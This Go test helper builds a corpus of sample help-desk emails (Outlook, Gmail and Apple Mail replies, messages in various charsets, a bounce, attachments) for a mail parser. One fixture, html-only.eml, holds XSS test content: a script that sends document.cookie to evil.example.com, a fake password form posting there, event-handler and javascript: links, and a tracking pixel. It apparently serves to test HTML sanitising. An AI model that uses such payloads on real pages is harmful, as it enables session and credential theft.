package mailparse

// This file generates the corpus under testdata/. The .eml files are
// committed and TestCorpusUpToDate compares them with the generator;
// rewrite them with
//
//	go test -run TestCorpusUpToDate ./internal/mailparse/ -update
//
// Messages are written with CRLF line endings, as real mail has.

import (
	"bytes"
	"encoding/base64"
	"flag"
	"image"
	"image/color"
	"image/png"
	"mime/quotedprintable"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
)

var updateCorpus = flag.Bool("update", false, "rewrite testdata/*.eml from their generator")

// crlf converts any line endings to CRLF.
func crlf(s string) []byte {
	s = strings.ReplaceAll(s, "\r\n", "\n")
	return []byte(strings.ReplaceAll(s, "\n", "\r\n"))
}

func qpEncode(t *testing.T, b []byte) string {
	var buf bytes.Buffer
	w := quotedprintable.NewWriter(&buf)
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func b64Lines(b []byte) string {
	enc := base64.StdEncoding.EncodeToString(b)
	var sb strings.Builder
	for len(enc) > 76 {
		sb.WriteString(enc[:76])
		sb.WriteString("\n")
		enc = enc[76:]
	}
	sb.WriteString(enc)
	sb.WriteString("\n")
	return sb.String()
}

func mustEncode(t *testing.T, enc interface{ String(string) (string, error) }, s string) string {
	out, err := enc.String(s)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// testPNG returns a small deterministic PNG.
func testPNG(t *testing.T) []byte {
	img := image.NewRGBA(image.Rect(0, 0, 16, 8))
	for y := 0; y < 8; y++ {
		for x := 0; x < 16; x++ {
			img.Set(x, y, color.RGBA{uint8(x * 16), uint8(y * 32), 0x80, 0xff})
		}
	}
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// largePDFSize is the decoded size of the attachment in large-attachment.eml.
const largePDFSize = 3 << 20

// fakePDF returns n deterministic bytes that look like a PDF.
func fakePDF(n int) []byte {
	b := make([]byte, 0, n)
	b = append(b, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"...)
	trailer := []byte("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
	x := uint64(0x9E3779B97F4A7C15)
	for len(b) < n-len(trailer) {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		b = append(b, byte(x))
	}
	return append(b, trailer...)
}

func corpusSources(t *testing.T) map[string][]byte {
	files := map[string][]byte{}

	// --- outlook-reply.eml -------------------------------------------------
	outlookText := `Hi,

the printer works again after the restart. Thanks for the quick help!

Best regards
Anna Schmidt
Facilities | Example Corp

________________________________
From: Help Desk <support@helpdesk.local>
Sent: Friday, December 4, 2026 10:02 AM
To: Anna Schmidt <anna.schmidt@example.com>
Subject: [#123] Printer on floor 3 offline

Hello Anna,

we restarted the print server. Can you check again?

Help Desk
`
	outlookHTML := `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
	{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]-->
</head>
<body lang="EN-US" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hi,<o:p></o:p></p>
<p class="MsoNormal">the printer works again after the restart. Thanks for the quick help!<o:p></o:p></p>
<p class="MsoNormal">Best regards<br>Anna Schmidt<br>Facilities | Example Corp<o:p></o:p></p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" color="#000000"><b>From:</b> Help Desk &lt;support@helpdesk.local&gt;<br>
<b>Sent:</b> Friday, December 4, 2026 10:02 AM<br>
<b>To:</b> Anna Schmidt &lt;anna.schmidt@example.com&gt;<br>
<b>Subject:</b> [#123] Printer on floor 3 offline</font>
<div>&nbsp;</div>
</div>
<div><p>Hello Anna,</p><p>we restarted the print server. Can you check again?</p><p>Help Desk</p></div>
</div>
</div>
</body>
</html>
`
	files["outlook-reply.eml"] = crlf(`Received: from EUR05-AM6-obe.outbound.protection.outlook.com (mail-am6eur05on2090.outbound.protection.outlook.com [40.107.22.90])
	by mx1.helpdesk.local (Postfix) with ESMTPS id 7B1C52C0456
	for <support@helpdesk.local>; Fri,  4 Dec 2026 10:31:07 +0100 (CET)
ARC-Seal: i=1; a=rsa-sha256; s=arcselector9901; d=microsoft.com; cv=none;
 b=Qk0x3vO2Yd1bq9vFqg5m0hD2wq3XnC8kq1Y0T2s7p0M=
Authentication-Results: mx1.helpdesk.local; dkim=pass header.d=example.com
From: Anna Schmidt <Anna.Schmidt@Example.com>
To: Help Desk <support@helpdesk.local>
Subject: RE: [#123] Printer on floor 3 offline
Thread-Topic: [#123] Printer on floor 3 offline
Thread-Index: AQHbRjK2mQ1d0c3kPUa7X1b2Yw1x7LKj0hQg
Date: Fri, 4 Dec 2026 09:31:05 +0000
Message-ID: <AM6PR04MB5431D2F5C1A2B3C4D5E6F7A8B9@AM6PR04MB5431.eurprd04.prod.outlook.com>
References: <ticket-123.msg-1@helpdesk.local>
 <ticket-123.msg-7@helpdesk.local>
In-Reply-To: <ticket-123.msg-7@helpdesk.local>
Accept-Language: en-US, de-DE
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
Content-Type: multipart/alternative;
	boundary="_000_AM6PR04MB5431D2F5C1A2B3C4D5E6F7A8B9AM6PR04MB5431eurp_"
MIME-Version: 1.0

--_000_AM6PR04MB5431D2F5C1A2B3C4D5E6F7A8B9AM6PR04MB5431eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

` + qpEncode(t, []byte(outlookText)) + `

--_000_AM6PR04MB5431D2F5C1A2B3C4D5E6F7A8B9AM6PR04MB5431eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

` + qpEncode(t, []byte(outlookHTML)) + `

--_000_AM6PR04MB5431D2F5C1A2B3C4D5E6F7A8B9AM6PR04MB5431eurp_--
`)

	// --- gmail-reply.eml ---------------------------------------------------
	gmailText := `Thanks, that fixed it. The VPN connects again.

Jonas

On Fri, 4 Dec 2026 at 10:02, Help Desk <support@helpdesk.local>
wrote:

> Hello Jonas,
>
> please update the VPN client to version 5.2 and try again.
>
> Help Desk
>
`
	gmailHTML := `<div dir="ltr"><div>Thanks, that fixed it. The VPN connects again.</div><div><br></div><div>Jonas</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Fri, 4 Dec 2026 at 10:02, Help Desk &lt;<a href="mailto:support@helpdesk.local">support@helpdesk.local</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hello Jonas,<br><br>please update the VPN client to version 5.2 and try again.<br><br>Help Desk<br></blockquote></div>
`
	files["gmail-reply.eml"] = crlf(`Delivered-To: support@helpdesk.local
Received: by 2002:a05:7000:1f0b:b0:5d2:3c1f:9e4a with SMTP id q11csp123456mak;
        Fri, 4 Dec 2026 01:05:31 -0800 (PST)
X-Received: by 2002:a17:907:3f24:b0:a9a:1d2c:3e4f with SMTP id hq36mr1234567ejc.12.1796389531123;
        Fri, 04 Dec 2026 01:05:31 -0800 (PST)
Return-Path: <jonas.becker@gmail.com>
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=gmail.com; s=20230601; t=1796389530; x=1796994330;
        h=to:subject:message-id:date:from:in-reply-to:references:mime-version;
        bh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;
        b=dGhpcyBpcyBub3QgYSByZWFsIHNpZ25hdHVyZSBidXQgaXQgbG9va3MgbGlrZSBvbmU=
MIME-Version: 1.0
References: <ticket-77.msg-2@helpdesk.local>
In-Reply-To: <ticket-77.msg-2@helpdesk.local>
From: Jonas Becker <jonas.becker@gmail.com>
Date: Fri, 4 Dec 2026 10:05:19 +0100
Message-ID: <CAJx8=Kq2mXo+VfT3hY8pZr7Lw4dN1sQ6bE9cG0uA5iR3tK@mail.gmail.com>
Subject: Re: [#77] VPN keeps disconnecting
To: Help Desk <support@helpdesk.local>
Content-Type: multipart/alternative; boundary="000000000000a1b2c3062b9f4e11"

--000000000000a1b2c3062b9f4e11
Content-Type: text/plain; charset="UTF-8"

` + gmailText + `
--000000000000a1b2c3062b9f4e11
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

` + qpEncode(t, []byte(gmailHTML)) + `
--000000000000a1b2c3062b9f4e11--
`)

	// --- applemail-reply.eml -----------------------------------------------
	appleText := "Hi there,\n\nI\u2019m still seeing the error \u201cAccess denied\u201d when opening the shared drive, even after logging out and in again as you suggested in your last message.\n\nCheers,\nLena\n\n> On 4 Dec 2026, at 10:02, Help Desk <support@helpdesk.local> wrote:\n> \n> Hello Lena,\n> \n> we have granted you access to \\\\fileserver\\projects. Please log out and in again.\n> \n> Help Desk\n\n"
	files["applemail-reply.eml"] = crlf(`Return-Path: <lena.fischer@icloud.com>
Received: from st43p00im-ztfb10061701.me.com (st43p00im-ztfb10061701.me.com [17.58.63.173])
	by mx1.helpdesk.local (Postfix) with ESMTPS id 1D2E32C0789
	for <support@helpdesk.local>; Fri,  4 Dec 2026 10:44:02 +0100 (CET)
Content-Type: text/plain;
	charset=utf-8
Content-Transfer-Encoding: quoted-printable
Mime-Version: 1.0 (Mac OS X Mail 16.0 \(3826.200.121\))
Subject: Re: [#88] Shared drive access
From: Lena Fischer <lena.fischer@icloud.com>
In-Reply-To: <ticket-88.msg-3@helpdesk.local>
Date: Fri, 4 Dec 2026 10:43:58 +0100
Message-Id: <8E1F0B3C-5D7A-4C2E-9B61-2A4F7D9E3C10@icloud.com>
References: <ticket-88.msg-1@helpdesk.local> <ticket-88.msg-3@helpdesk.local>
To: Help Desk <support@helpdesk.local>
X-Mailer: Apple Mail (2.3826.200.121)

` + qpEncode(t, []byte(appleText)))

	// --- iso-8859-1.eml ----------------------------------------------------
	latin1Text := "Sehr geehrte Damen und Herren,\n\nder Drucker im B\u00fcro gibt seit gestern nur noch leere Seiten aus.\nAuch das Caf\u00e9 im Erdgescho\u00df ist betroffen.\n\nMit freundlichen Gr\u00fc\u00dfen\nJ\u00fcrgen Wei\u00df\n"
	latin1 := mustEncode(t, charmap.ISO8859_1.NewEncoder(), latin1Text)
	files["iso-8859-1.eml"] = crlf(`Return-Path: <juergen.weiss@example.de>
Received: from mail.example.de (mail.example.de [192.0.2.25])
	by mx1.helpdesk.local (Postfix) with ESMTPS id 9A8B72C0AAA
	for <support@helpdesk.local>; Fri,  4 Dec 2026 11:15:40 +0100 (CET)
Message-ID: <5f3e2a1b-7c4d-4e8f-9a0b-1c2d3e4f5a6b@example.de>
Date: Fri, 4 Dec 2026 11:15:38 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
From: =?ISO-8859-1?Q?J=FCrgen_Wei=DF?= <juergen.weiss@example.de>
To: support@helpdesk.local
Subject: =?ISO-8859-1?Q?Drucker_im_B=FCro_druckt_nur_leere_Seiten_?=
 =?ISO-8859-1?Q?-_Gr=FC=DFe?=
Content-Type: text/plain; charset=ISO-8859-1; format=flowed
Content-Transfer-Encoding: quoted-printable

` + qpEncode(t, []byte(latin1)))

	// --- windows-1252.eml --------------------------------------------------
	cp1252Text := "Hello,\n\nthe invoice says \u201c\u20ac 1.299,00\u201d \u2013 but we were quoted \u20ac999.\nIt\u2019s urgent, the payment run is on Monday.\n\nThanks\nMark\n"
	cp1252 := mustEncode(t, charmap.Windows1252.NewEncoder(), cp1252Text)
	files["windows-1252.eml"] = crlf(`Received: from EX01.corp.example.net (10.0.0.12) by EX02.corp.example.net
 (10.0.0.13) with Microsoft SMTP Server id 15.1.2507.39; Fri, 4 Dec 2026
 11:20:00 +0100
From: "Mark O'Neill" <mark.oneill@corp.example.net>
To: <support@helpdesk.local>
Subject: =?windows-1252?Q?Invoice_=96_wrong_amount_=80?=
Date: Fri, 4 Dec 2026 11:19:58 +0100
Message-ID: <000001db4a2b$5f0e3c40$1d2ab4c0$@corp.example.net>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Content-Type: text/plain; charset="windows-1252"
Content-Transfer-Encoding: base64

` + b64Lines([]byte(cp1252)))

	// --- shift_jis.eml -----------------------------------------------------
	sjisText := "\u304a\u4e16\u8a71\u306b\u306a\u3063\u3066\u304a\u308a\u307e\u3059\u3002\n\n\u4f1a\u8b70\u5ba4\u306e\u30d7\u30ea\u30f3\u30bf\u30fc\u304c\u52d5\u304d\u307e\u305b\u3093\u3002\n\u81f3\u6025\u78ba\u8a8d\u3092\u304a\u9858\u3044\u3057\u307e\u3059\u3002\n\n\u5c71\u7530\u592a\u90ce\n"
	sjis := mustEncode(t, japanese.ShiftJIS.NewEncoder(), sjisText)
	subjJIS := mustEncode(t, japanese.ISO2022JP.NewEncoder(), "\u30d7\u30ea\u30f3\u30bf\u30fc\u304c\u52d5\u304d\u307e\u305b\u3093")
	nameJIS := mustEncode(t, japanese.ISO2022JP.NewEncoder(), "\u5c71\u7530\u592a\u90ce")
	files["shift_jis.eml"] = crlf(`Return-Path: <yamada@example.co.jp>
Received: from mail.example.co.jp (mail.example.co.jp [198.51.100.7])
	by mx1.helpdesk.local (Postfix) with ESMTP id 3C4D52C0BBB
	for <support@helpdesk.local>; Fri,  4 Dec 2026 19:30:12 +0900 (JST)
From: =?ISO-2022-JP?B?` + base64.StdEncoding.EncodeToString([]byte(nameJIS)) + `?= <yamada@example.co.jp>
To: support@helpdesk.local
Subject: =?ISO-2022-JP?B?` + base64.StdEncoding.EncodeToString([]byte(subjJIS)) + `?=
Date: Fri, 04 Dec 2026 19:30:10 +0900
Message-Id: <20261204193010.A1B2C3D4@example.co.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=Shift_JIS
Content-Transfer-Encoding: 8bit
X-Mailer: Becky! ver. 2.81.05

` + sjis)

	// --- html-only.eml -----------------------------------------------------
	files["html-only.eml"] = crlf(`Return-Path: <priya.nair@example.in>
Received: from smtp.example.in (smtp.example.in [203.0.113.40])
	by mx1.helpdesk.local (Postfix) with ESMTPS id 5E6F72C0CCC
	for <support@helpdesk.local>; Fri,  4 Dec 2026 12:00:01 +0100 (CET)
From: Priya Nair <priya.nair@example.in>
To: support@helpdesk.local
Subject: Laptop screen flickers
Date: Fri, 4 Dec 2026 16:29:58 +0530
Message-ID: <html-only-7f3a9c@example.in>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 7bit

<!DOCTYPE html>
<html>
<head>
<title>Secret Title</title>
<style>body { color: red; } .hidden { display: none; }</style>
<script type="text/javascript">alert('xss'); document.location = 'https://evil.example.com/?c=' + document.cookie;</script>
</head>
<body onload="steal()">
<p onclick="evil()">My laptop screen flickers since the update.</p>
<p>It happens every few minutes, mostly when the charger is connected.</p>
<p><a href="javascript:alert(1)">Click here</a> or <a href="https://status.example.com/incidents" onmouseover="evil()">see the status page</a>.</p>
<iframe src="https://evil.example.com/frame">iframe fallback text</iframe>
<form action="https://evil.example.com/login"><input type="password" name="pw"><button>Log in</button></form>
<img src="http://tracker.example.com/pixel.gif" width="1" height="1">
<img src="https://cdn.example.in/logo.png" alt="Example logo">
<p>Regards,<br>Priya</p>
</body>
</html>
`)

	// --- inline-image.eml --------------------------------------------------
	pngData := testPNG(t)
	files["inline-image.eml"] = crlf(`Return-Path: <omar.haddad@example.com>
Received: from EUR02-VE1-obe.outbound.protection.outlook.com (40.107.2.70)
	by mx1.helpdesk.local (Postfix) with ESMTPS id 6A7B82C0DDD
	for <support@helpdesk.local>; Fri,  4 Dec 2026 13:10:00 +0100 (CET)
From: Omar Haddad <omar.haddad@example.com>
To: "support@helpdesk.local" <support@helpdesk.local>
Subject: Error when starting the CRM
Date: Fri, 4 Dec 2026 12:09:57 +0000
Message-ID: <VI1PR07MB6254A1B2C3D4E5F6A7B8C9D0E1F2@VI1PR07MB6254.eurprd07.prod.outlook.com>
Content-Language: en-GB
X-MS-Has-Attach: yes
Content-Type: multipart/related;
	boundary="_004_VI1PR07MB6254A1B2C3D4_";
	type="multipart/alternative"
MIME-Version: 1.0

--_004_VI1PR07MB6254A1B2C3D4_
Content-Type: multipart/alternative;
	boundary="_000_VI1PR07MB6254A1B2C3D4_"

--_000_VI1PR07MB6254A1B2C3D4_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Hello,

here is a screenshot of the error:

[cid:image001.png@01DB4A2B.5F0E3C40]

Thanks
Omar

--_000_VI1PR07MB6254A1B2C3D4_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=
=3Dus-ascii"></head><body><p>Hello,</p><p>here is a screenshot of the error=
:</p><p><img width=3D"16" height=3D"8" id=3D"Picture_x0020_1" src=3D"cid:im=
age001.png@01DB4A2B.5F0E3C40" alt=3D"screenshot"></p><p>Thanks<br>Omar</p><=
/body></html>

--_000_VI1PR07MB6254A1B2C3D4_--

--_004_VI1PR07MB6254A1B2C3D4_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size=` + itoa(len(pngData)) + `;
	creation-date="Fri, 04 Dec 2026 12:09:56 GMT";
	modification-date="Fri, 04 Dec 2026 12:09:56 GMT"
Content-ID: <image001.png@01DB4A2B.5F0E3C40>
Content-Transfer-Encoding: base64

` + b64Lines(pngData) + `
--_004_VI1PR07MB6254A1B2C3D4_--
`)

	// --- large-attachment.eml ----------------------------------------------
	files["large-attachment.eml"] = crlf(`Return-Path: <finance@example.org>
Received: from mail.example.org (mail.example.org [192.0.2.80])
	by mx1.helpdesk.local (Postfix) with ESMTPS id 7B8C92C0EEE
	for <support@helpdesk.local>; Fri,  4 Dec 2026 14:00:00 +0100 (CET)
From: Finance Team <finance@example.org>
To: support@helpdesk.local
Subject: Scanned contract does not open
Date: Fri, 4 Dec 2026 13:59:58 +0100
Message-ID: <large-attachment-0001@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="------------mixed-7c1e9a"

This is a multi-part message in MIME format.
--------------mixed-7c1e9a
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Hi,

the attached scan cannot be opened on the office PCs. Can you check it?

Finance Team

--------------mixed-7c1e9a
Content-Type: application/pdf; name="contract-2026-12.pdf"
Content-Disposition: attachment; filename="contract-2026-12.pdf"
Content-Transfer-Encoding: base64

` + b64Lines(fakePDF(largePDFSize)) + `
--------------mixed-7c1e9a--
`)

	// --- dsn-bounce.eml ----------------------------------------------------
	files["dsn-bounce.eml"] = crlf(`Return-Path: <>
Received: by mx1.helpdesk.local (Postfix)
	id 4F1A22C0123; Fri,  4 Dec 2026 10:02:14 +0100 (CET)
Date: Fri,  4 Dec 2026 10:02:14 +0100 (CET)
From: MAILER-DAEMON@mx1.helpdesk.local (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@helpdesk.local
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
	boundary="4F1A22C0123.1796374934/mx1.helpdesk.local"
Content-Transfer-Encoding: 8bit
Message-Id: <20261204090214.5A6B72C0124@mx1.helpdesk.local>

This is a MIME-encapsulated message.

--4F1A22C0123.1796374934/mx1.helpdesk.local
Content-Description: Notification
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

This is the mail system at host mx1.helpdesk.local.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

For further assistance, please send mail to postmaster.

If you do so, please include this problem report. You can
delete your own text from the attached returned message.

                   The mail system

<nosuchuser@example.org>: host mx.example.org[192.0.2.99] said: 550 5.1.1
    <nosuchuser@example.org>: Recipient address rejected: User unknown in
    virtual mailbox table (in reply to RCPT TO command)

--4F1A22C0123.1796374934/mx1.helpdesk.local
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx1.helpdesk.local
X-Postfix-Queue-ID: 4F1A22C0123
X-Postfix-Sender: rfc822; support@helpdesk.local
Arrival-Date: Fri,  4 Dec 2026 10:02:11 +0100 (CET)

Final-Recipient: rfc822; nosuchuser@example.org
Original-Recipient: rfc822;NoSuchUser@example.org
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.org
Diagnostic-Code: smtp; 550 5.1.1 <nosuchuser@example.org>: Recipient address
    rejected: User unknown in virtual mailbox table

--4F1A22C0123.1796374934/mx1.helpdesk.local
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers
Content-Transfer-Encoding: 8bit

Return-Path: <support@helpdesk.local>
Received: from worker-3.helpdesk.local (worker-3.helpdesk.local [10.1.0.13])
	by mx1.helpdesk.local (Postfix) with ESMTP id 4F1A22C0123
	for <nosuchuser@example.org>; Fri,  4 Dec 2026 10:02:11 +0100 (CET)
From: Help Desk <support@helpdesk.local>
To: nosuchuser@example.org
Subject: [#42] Your request has been received
Date: Fri, 04 Dec 2026 09:02:10 +0000
Message-ID: <ticket-42.abc@helpdesk.local>
X-Helpdesk-Loop: ticket-42
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

--4F1A22C0123.1796374934/mx1.helpdesk.local--
`)

	// --- out-of-office.eml -------------------------------------------------
	oofText := "I am out of the office until 14 December 2026 with limited access to email.\n\nFor urgent matters please contact my colleague Tom Weber (tom.weber@example.com).\n\nKind regards\nSarah Klein\n"
	files["out-of-office.eml"] = crlf(`Received: from AM0PR02MB5555.eurprd02.prod.outlook.com (2603:10a6:208:1::11)
 by mx1.helpdesk.local (Postfix) with ESMTPS id 8C9DA2C0FFF
 for <support@helpdesk.local>; Fri,  4 Dec 2026 10:02:30 +0100 (CET)
From: Sarah Klein <sarah.klein@example.com>
To: Help Desk <support@helpdesk.local>
Subject: Automatic reply: [#123] Printer on floor 3 offline
Thread-Topic: [#123] Printer on floor 3 offline
Thread-Index: AQHbRjK2mQ1d0c3kPUa7X1b2Yw1x7LKj0hQgAAAB
Date: Fri, 4 Dec 2026 09:02:28 +0000
Message-ID: <a1b2c3d4e5f64718293a4b5c6d7e8f90@AM0PR02MB5555.eurprd02.prod.outlook.com>
In-Reply-To: <ticket-123.msg-7@helpdesk.local>
References: <ticket-123.msg-7@helpdesk.local>
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: sarah.klein@example.com
Content-Language: en-US
X-MS-Has-Attach:
Content-Type: multipart/alternative;
	boundary="_000_a1b2c3d4e5f64718293a4b5c6d7e8f90AM0PR02MB5555eurp_"
MIME-Version: 1.0

--_000_a1b2c3d4e5f64718293a4b5c6d7e8f90AM0PR02MB5555eurp_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

` + qpEncode(t, []byte(oofText)) + `

--_000_a1b2c3d4e5f64718293a4b5c6d7e8f90AM0PR02MB5555eurp_
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><head><meta http-equiv=3D"Content-Type" content=3D"text/html; charset=
=3Dus-ascii"></head><body><p>I am out of the office until 14 December 2026 =
with limited access to email.</p><p>For urgent matters please contact my co=
lleague Tom Weber (tom.weber@example.com).</p><p>Kind regards<br>Sarah Klei=
n</p></body></html>

--_000_a1b2c3d4e5f64718293a4b5c6d7e8f90AM0PR02MB5555eurp_--
`)

	// --- mailing-list.eml --------------------------------------------------
	files["mailing-list.eml"] = crlf(`Return-Path: <it-announce-bounces+support=helpdesk.local@lists.example.com>
Received: from lists.example.com (lists.example.com [192.0.2.150])
	by mx1.helpdesk.local (Postfix) with ESMTP id 9DAEB2C1000
	for <support@helpdesk.local>; Fri,  4 Dec 2026 15:00:05 +0100 (CET)
From: IT Announcements <it-announce@lists.example.com>
To: it-announce@lists.example.com
Subject: [it-announce] Planned maintenance: mail servers, Saturday 5 Dec
Date: Fri, 4 Dec 2026 15:00:00 +0100
Message-ID: <maint-2026-12-05@lists.example.com>
Precedence: list
List-Id: IT announcements <it-announce.lists.example.com>
List-Unsubscribe: <mailto:it-announce-leave@lists.example.com>,
 <https://lists.example.com/unsubscribe/it-announce>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
List-Archive: <https://lists.example.com/archives/it-announce>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 7bit

Dear colleagues,

the mail servers will be unavailable on Saturday, 5 December 2026,
between 06:00 and 08:00 CET for planned maintenance.

-- 
it-announce mailing list
To unsubscribe send an email to it-announce-leave@lists.example.com
`)

	// --- no-message-id.eml -------------------------------------------------
	files["no-message-id.eml"] = crlf(`Return-Path: <scanner@example.net>
Received: from scanner.example.net (scanner.example.net [192.0.2.201])
	by mx1.helpdesk.local (Postfix) with SMTP id AEBFC2C1111
	for <support@helpdesk.local>; Fri,  4 Dec 2026 16:00:00 +0100 (CET)
From: Office Scanner <scanner@example.net>
To: support@helpdesk.local
Subject: Toner low on MFP-2F
Date: Fri, 4 Dec 2026 16:00:00 +0100

The toner of device MFP-2F (2nd floor) is low: black 5%.
Please order a replacement cartridge.
`)

	// --- new-ticket.eml ----------------------------------------------------
	files["new-ticket.eml"] = crlf(`Return-Path: <maria.garcia@example.com>
Received: from mail.example.com (mail.example.com [192.0.2.10])
	by mx1.helpdesk.local (Postfix) with ESMTPS id BFC0D2C1222
	for <support@helpdesk.local>; Fri,  4 Dec 2026 08:15:03 +0100 (CET)
Message-ID: <4b1d2c3e-5f60-4718-8a9b-0c1d2e3f4a5b@example.com>
Date: Fri, 4 Dec 2026 08:15:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: es-ES
From: =?UTF-8?Q?Mar=C3=ADa_Garc=C3=ADa?= <Maria.Garcia@Example.com>
Reply-To: Accounting Team <accounting@example.com>
To: Help Desk <support@helpdesk.local>
Cc: Peter Brown <peter.brown@example.com>, "Doe, Jane" <jane.doe@example.com>
Subject: Cannot log in to the accounting system
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Hello,

I cannot log in to the accounting system since this morning. The error
says "Account locked".

Could you please unlock my account?

Thank you,
María

-- 
María García
Accounting | Example Corp
+49 30 1234567
`)

	// --- our-own.eml -------------------------------------------------------
	files["our-own.eml"] = crlf(`Return-Path: <support@helpdesk.local>
Received: from worker-1.helpdesk.local (worker-1.helpdesk.local [10.1.0.11])
	by mx1.helpdesk.local (Postfix) with ESMTP id C0D1E2C1333
	for <support@helpdesk.local>; Fri,  4 Dec 2026 10:02:11 +0100 (CET)
From: Help Desk <support@helpdesk.local>
To: Help Desk <support@helpdesk.local>
Subject: [#123] Printer on floor 3 offline
Date: Fri, 04 Dec 2026 09:02:10 +0000
Message-ID: <ticket-123.msg-7@helpdesk.local>
X-Helpdesk-Loop: ticket-123
Auto-Submitted: auto-generated
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 7bit

Hello Anna,

we restarted the print server. Can you check again?

Help Desk
`)
	return files
}

func itoa(n int) string {
	var b [20]byte
	i := len(b)
	if n == 0 {
		return "0"
	}
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return string(b[i:])
}
